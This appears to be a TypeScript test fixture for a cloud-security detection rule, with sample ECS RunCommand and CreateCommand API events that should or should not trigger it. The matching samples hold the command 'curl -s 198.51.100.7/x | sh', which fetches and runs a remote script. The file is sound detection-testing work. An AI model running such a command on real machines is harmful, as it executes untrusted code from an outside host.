import { apiCall, nonMatchingCalls, sample } from './events';
import type { Samples } from './index';

const call = apiCall('Ecs', 'RunCommand', {
  ContentEncoding: 'PlainText',
  CommandContent: 'curl -s 198.51.100.7/x | sh',
});

export default {
  matches: [
    sample('RunCommand', call),
    sample(
      'CreateCommand',
      apiCall('Ecs', 'CreateCommand', {
        ContentEncoding: 'PlainText',
        CommandContent: 'curl -s 198.51.100.7/x | sh',
      }),
    ),
  ],
  nonMatches: [
    ...nonMatchingCalls('Ecs', call, 'DescribeCommands'),
    sample(
      'a restart',
      apiCall('Ecs', 'RunCommand', { CommandContent: 'c3lzdGVtY3RsIHJlc3RhcnQ=' }),
    ),
  ],
} satisfies Samples;
